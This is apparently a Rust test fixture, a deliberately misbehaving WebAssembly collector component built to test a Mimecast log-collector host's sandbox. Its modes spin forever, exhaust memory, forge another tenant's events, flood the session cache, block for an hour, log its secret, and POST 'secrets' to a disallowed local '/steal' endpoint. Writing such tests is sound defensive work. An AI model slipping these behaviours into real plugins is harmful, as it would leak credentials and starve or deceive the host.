//! A component of the `collector` world that misbehaves on purpose, for the sandbox tests.
//! What it does is chosen by the configured tenant name:
//! `loop` spins forever in `poll`; `alloc` allocates until memory runs out; `disallowed-host`
//! calls a host other than its base URL; `malformed` returns events that are not one-line JSON
//! objects; `impostor` returns well-formed events that claim to be tenant `acme`'s (another
//! tenant) and of another log type; `trap` panics in the middle of `poll`; `flood-cache` tries to store thousands of
//! large values in the host's session cache and reports how many the host kept; `sleep` blocks
//! in `poll` on a WASI monotonic-clock subscription for an hour (no Wasm runs meanwhile, so
//! epoch interruption cannot stop it); `echo-secret` logs and returns its configured secret as
//! a server echoing the token request would (raw, form-encoded, JSON-escaped, beside a bearer
//! token). Any other name returns an empty batch.
//! Built only for wasm32-wasip2 (the host's `tests/hostile.rs` builds it).

#[cfg(target_arch = "wasm32")]
mod guest {
    use std::cell::RefCell;

    wit_bindgen::generate!({
        world: "collector",
        path: "../../wit",
    });

    use exports::mimecast::source::source as wit;

    thread_local! {
        static MODE: RefCell<String> = const { RefCell::new(String::new()) };
        static SECRET: RefCell<String> = const { RefCell::new(String::new()) };
    }

    struct Hostile;

    impl wit::Guest for Hostile {
        fn configure(config: wit::Config) -> Result<(), wit::PollError> {
            MODE.with(|m| *m.borrow_mut() = config.tenant);
            let secret = match config.credentials {
                wit::Credentials::Api1(k) => k.secret_key,
                wit::Credentials::Api2(c) => c.client_secret,
            };
            SECRET.with(|s| *s.borrow_mut() = secret);
            Ok(())
        }

        fn poll(
            _log: mimecast::source::types::LogType,
            _checkpoint: Option<String>,
        ) -> Result<wit::Batch, wit::PollError> {
            let mode = MODE.with(|m| m.borrow().clone());
            let events = match mode.as_str() {
                "loop" => {
                    let mut n: u64 = 0;
                    loop {
                        n = std::hint::black_box(n.wrapping_add(1));
                    }
                }
                "alloc" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(vec![1u8; 1 << 20]);
                        std::hint::black_box(&hoard);
                    }
                }
                "disallowed-host" => {
                    let sent = waki::Client::new()
                        .post("http://127.0.0.1:9/steal")
                        .body(b"secrets".to_vec())
                        .send();
                    return Err(wit::PollError::Protocol(match sent {
                        Ok(r) => format!("unexpectedly reached the host: {}", r.status_code()),
                        Err(e) => format!("request failed: {e}"),
                    }));
                }
                "malformed" => vec![
                    r#"{"ok":1}"#.to_string(),
                    "not json at all".to_string(),
                    "{\"split\":\n\"line\"}".to_string(),
                ],
                "sleep" => {
                    // On wasm32-wasip2, `thread::sleep` is a `monotonic-clock` subscription
                    // waited on with `wasi:io/poll`: the guest sits inside a host call.
                    std::thread::sleep(std::time::Duration::from_secs(3600));
                    Vec::new()
                }
                "impostor" => vec![
                    r#"{"log_type":"url","tenant":"acme","event_id":"forged","record":{}}"#
                        .to_string(),
                    r#"{"log_type":"attachment","tenant":"impostor","record":{}}"#.to_string(),
                ],
                // Configured with `schema = "ecs"` / `"ocsf"`: documents of that shape that claim
                // another tenant, and a raw event of its own, which is not of its shape.
                "impostor-ecs" => vec![
                    r#"{"event":{"dataset":"mimecast.ttp_url_logs","id":"f"},"organization":{"id":"acme"}}"#
                        .to_string(),
                ],
                "impostor-ocsf" => vec![
                    r#"{"class_uid":4009,"metadata":{"log_name":"url","tenant_uid":"acme","uid":"f"}}"#
                        .to_string(),
                ],
                "raw-in-ecs" => vec![
                    r#"{"log_type":"url","tenant":"raw-in-ecs","event_id":"f","record":{}}"#
                        .to_string(),
                ],
                "trap" => panic!("hostile component: trap in the middle of poll"),
                "flood-cache" => {
                    use mimecast::source::session_cache;
                    let big = "x".repeat(1 << 20);
                    let small = "y".repeat(1 << 10);
                    let mut kept = 0;
                    for i in 0..2_000 {
                        let name = format!("n{i}");
                        let value = if i % 2 == 0 { &big } else { &small };
                        session_cache::put(&name, value, u64::MAX);
                        if session_cache::get(&name).is_some() {
                            kept += 1;
                        }
                    }
                    return Err(wit::PollError::Protocol(format!(
                        "flood-cache: the host kept {kept} of 2000 values"
                    )));
                }
                "echo-secret" => {
                    // What a server echoing the posted token request would make of the secret.
                    let secret = SECRET.with(|s| s.borrow().clone());
                    let form: String = secret
                        .bytes()
                        .map(|b| match b {
                            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                                char::from(b).to_string()
                            }
                            b' ' => "+".to_string(),
                            _ => format!("%{b:02X}"),
                        })
                        .collect();
                    mimecast::source::host_log::log(
                        mimecast::source::types::LogLevel::Error,
                        &format!(
                            "server said: invalid_client for client_secret={form}; raw {secret}"
                        ),
                    );
                    return Err(wit::PollError::Unauthorized(format!(
                        "HTTP 400: {{\"error\":\"invalid_client\",\"echo\":{}, \
                         \"form\":\"grant_type=client_credentials&client_secret={form}\"}} \
                         Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.leaked-token-value",
                        serde_json_escape(&secret)
                    )));
                }
                _ => Vec::new(),
            };
            Ok(wit::Batch {
                events,
                checkpoint: "{}".to_string(),
                next_poll: wit::NextPoll::Interval,
                cursor: None,
            })
        }

        fn probe(_log: mimecast::source::types::LogType) -> Result<(), wit::PollError> {
            Ok(())
        }

        fn discover(
            _url: String,
            _app_id: String,
            _email: String,
            _timeout_ms: u64,
        ) -> Result<String, wit::PollError> {
            Err(wit::PollError::Protocol("not supported".to_string()))
        }
    }

    /// `value` as a JSON string literal.
    fn serde_json_escape(value: &str) -> String {
        let mut out = String::from("\"");
        for c in value.chars() {
            match c {
                '"' => out.push_str("\\\""),
                '\\' => out.push_str("\\\\"),
                '/' => out.push_str("\\/"),
                c => out.push(c),
            }
        }
        out.push('"');
        out
    }

    export!(Hostile);
}
